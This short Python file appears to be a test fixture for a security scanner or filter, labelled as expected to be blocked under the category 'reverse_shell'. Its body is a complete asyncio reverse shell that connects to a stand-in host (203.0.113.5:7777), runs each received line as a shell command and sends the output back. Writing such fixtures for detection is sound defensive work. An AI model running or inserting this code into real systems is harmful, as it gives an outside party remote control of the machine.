# expect: BLOCKED category: reverse_shell
# An asyncio remote shell: commands from a TCP stream run in a subprocess shell.
import asyncio

async def main():
    reader, writer = await asyncio.open_connection("203.0.113.5", 7777)
    while True:
        line = await reader.readline()
        if not line:
            break
        proc = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()

asyncio.run(main())
